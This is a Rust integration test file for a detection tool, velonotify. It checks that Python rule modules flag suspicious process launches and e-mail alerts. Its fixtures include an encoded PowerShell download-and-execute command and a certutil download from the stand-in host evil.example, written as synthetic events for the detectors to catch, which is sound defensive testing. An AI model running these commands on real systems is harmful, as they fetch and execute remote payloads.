@@ -1,0 +1,220 @@
+//! Rule modules written in Python (guest/python): the examples, made
+//! components by componentize-py, load under the default (pooling)
+//! allocator, raise alerts that the Alerts module e-mails, keep state across
+//! restarts, and pass `velonotify test`.
+
+use std::path::{Path, PathBuf};
+
+use base64::Engine as _;
+use serde_json::{Value, json};
+use velonotify_test_support::{data, emails, header, jsonl, python_modules_dir, scratch, stderr};
+
+use super::{replay, replay_with, velonotify, write_config};
+
+const T0: u64 = 1_778_400_000; // 2026-05-10T08:00:00Z
+const WIN: &str = "C.91ac3d5e7f20b846";
+
+fn python_module(name: &str) -> PathBuf {
+    python_modules_dir().join(format!("{name}.wasm"))
+}
+
+fn write_rows(dir: &Path, name: &str, rows: &[Value]) -> PathBuf {
+    let path = dir.join(name);
+    std::fs::write(&path, rows.iter().map(|r| format!("{r}\n")).collect::<String>()).unwrap();
+    path
+}
+
+fn process(at: u64, name: &str, command_line: &str) -> Value {
+    json!({"Timestamp": at, "PID": 4242, "PPID": 640, "Name": name, "CommandLine": command_line,
+           "ClientId": WIN, "_ts": at, "_Source": "Windows.Events.ProcessCreation"})
+}
+
+fn encoded(script: &str) -> String {
+    let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    base64::engine::general_purpose::STANDARD.encode(utf16)
+}
+
+/// A benign start, encoded PowerShell, a certutil download and a plain
+/// PowerShell command.
+fn process_rows() -> Vec<Value> {
+    vec![
+        process(T0, "svchost.exe", "C:\\Windows\\System32\\svchost.exe -k netsvcs"),
+        process(
+            T0 + 10,
+            "powershell.exe",
+            &format!(
+                "powershell.exe -NoProfile -enc {}",
+                encoded("IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')")
+            ),
+        ),
+        process(
+            T0 + 20,
+            "certutil.exe",
+            "certutil.exe -urlcache -split -f http://evil.example/p.exe C:\\Users\\Public\\p.exe",
+        ),
+        process(T0 + 30, "powershell.exe", "powershell.exe -Command Get-Date"),
+    ]
+}
+
+const DETECTION_CONFIG: &str = r#"
+[lookups]
+world = "WORLD"
+
+[[module]]
+path = "PROCESS_CREATION"
+
+[[module]]
+path = "alerts.wasm"
+[module.params]
+Recipients = "Address\nsoc@corp.example\n"
+SendInterval = -1
+"#;
+
+#[test]
+fn a_python_detection_raises_alerts_that_the_alerts_module_emails() {
+    let dir = scratch();
+    let config = write_config(
+        dir.path(),
+        &DETECTION_CONFIG
+            .replace("WORLD", &data("demo/world.json").display().to_string())
+            .replace(
+                "PROCESS_CREATION",
+                &python_module("process_creation").display().to_string(),
+            ),
+    );
+    let events = write_rows(dir.path(), "processes.jsonl", &process_rows());
+    let out = dir.path().join("out");
+    let output = replay(&config, &events, &out);
+    let summary = jsonl(&out.join("summary.jsonl"));
+    let alerts: Vec<(&str, &str)> = summary
+        .iter()
+        .filter(|s| s["kind"] == "alert")
+        .map(|s| (s["event"].as_str().unwrap(), s["subject"].as_str().unwrap()))
+        .collect();
+    assert_eq!(
+        alerts,
+        [
+            ("processes.jsonl:2", "Encoded PowerShell command"),
+            ("processes.jsonl:3", "LOLBin: certutil downloading or decoding a file"),
+        ]
+    );
+    let mails = emails(&out);
+    assert_eq!(mails.len(), 2, "each alert is e-mailed: {summary:?}");
+    let mail = mailparse::parse_mail(&mails[0].1).unwrap();
+    assert_eq!(
+        header(&mail, "Subject").unwrap(),
+        "Alert from client WIN-FIN-01 (high): Encoded PowerShell command"
+    );
+    let text = velonotify_test_support::part(&mail, "text/plain").unwrap();
+    assert!(
+        text.contains("DecodedCommand: IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')"),
+        "the decoded script is shown:\n{text}"
+    );
+    // The pool cannot hold a Python component; it runs outside it, said once.
+    let log = stderr(&output);
+    assert_eq!(log.matches("does not fit the instance pool").count(), 1, "{log}");
+}
+
+fn logon(at: u64, user: &str, client: &str) -> Value {
+    json!({"EventTime": at, "EventID": 4624, "TargetUserName": user, "LogonType": 3, "IpAddress": "10.0.0.9",
+           "ClientId": client, "_ts": at, "_Source": "Windows.Events.Trackaccount"})
+}
+
+#[test]
+fn a_python_rule_keeps_its_state_across_restarts() {
+    let dir = scratch();
+    let config = write_config(
+        dir.path(),
+        &format!(
+            "[[module]]\npath = \"{}\"\n[module.params]\nMaxHosts = 3\nWindowMinutes = 10\n",
+            python_module("logon_spread").display()
+        ),
+    );
+    let state = dir.path().join("state.db");
+    let replay = |name: &str, rows: &[Value]| -> Vec<Value> {
+        let events = write_rows(dir.path(), name, rows);
+        let out = dir.path().join(format!("out-{name}"));
+        replay_with(&config, &events, &out, &["--state", &state.display().to_string()]);
+        jsonl(&out.join("summary.jsonl"))
+    };
+    // Two hosts, and a machine account that is never counted.
+    let first = replay(
+        "first.jsonl",
+        &[
+            logon(T0, "alice", "C.1"),
+            logon(T0 + 60, "alice", "C.2"),
+            logon(T0 + 70, "WS01$", "C.3"),
+        ],
+    );
+    assert!(first.is_empty(), "{first:?}");
+    // After a restart: two more hosts within the window make four.
+    let second = replay(
+        "second.jsonl",
+        &[logon(T0 + 120, "alice", "C.3"), logon(T0 + 180, "Alice", "C.4")],
+    );
+    let subjects: Vec<&str> = second.iter().map(|s| s["subject"].as_str().unwrap()).collect();
+    assert_eq!(subjects, ["Account Alice logged on to 4 hosts within 10 minutes"]);
+    // Hosts seen before the window are forgotten.
+    let later = replay("later.jsonl", &[logon(T0 + 3600, "alice", "C.5")]);
+    assert!(later.is_empty(), "{later:?}");
+}
+
+#[test]
+fn velonotify_test_prints_a_modules_actions_and_checks_them() {
+    let dir = scratch();
+    let module = python_module("process_creation").display().to_string();
+    let events = write_rows(dir.path(), "rows.jsonl", &process_rows());
+    let events = events.display().to_string();
+    let cache = velonotify_test_support::cache_dir().display().to_string();
+    let test = |more: &[&str]| {
+        let mut args = vec![
+            "test",
+            module.as_str(),
+            "--events",
+            events.as_str(),
+            "--cache-dir",
+            cache.as_str(),
+        ];
+        args.extend_from_slice(more);
+        velonotify(&args)
+    };
+    let printed = test(&[]);
+    assert!(printed.status.success(), "{}", stderr(&printed));
+    let lines: Vec<Value> = String::from_utf8(printed.stdout)
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    assert_eq!(lines.len(), 2, "{lines:?}");
+    assert_eq!(lines[0]["event"], "rows.jsonl:2");
+    assert_eq!(lines[0]["kind"], "alert");
+    assert_eq!(lines[0]["name"], "Encoded PowerShell command");
+    assert_eq!(
+        lines[1]["event_data"]["Detection"],
+        "certutil downloading or decoding a file"
+    );
+
+    // The same lines as expected: it passes; one changed: it fails, naming it.
+    let expected = dir.path().join("expected.jsonl");
+    let text: String = lines.iter().map(|l| format!("{l}\n")).collect();
+    std::fs::write(&expected, &text).unwrap();
+    let expect = expected.display().to_string();
+    let passed = test(&["--expect", &expect]);
+    assert!(passed.status.success(), "{}", stderr(&passed));
+    std::fs::write(&expected, text.replace("Encoded PowerShell command", "Something else")).unwrap();
+    let failed = test(&["--expect", &expect]);
+    assert!(!failed.status.success());
+    let said = String::from_utf8(failed.stdout).unwrap();
+    assert!(said.starts_with("action 1: expected"), "{said}");
+
+    // Parameters are parsed as the module declares them, and named when bad.
+    let off = test(&["--param", "EncodedPowerShell=N"]);
+    assert_eq!(String::from_utf8(off.stdout).unwrap().lines().count(), 1);
+    let bad = test(&["--param", "Dedup=ten"]);
+    assert!(!bad.status.success());
+    assert!(
+        stderr(&bad).contains("parameter Dedup: expected an integer, got \"ten\""),
+        "{}",
+        stderr(&bad)
+    );
+}
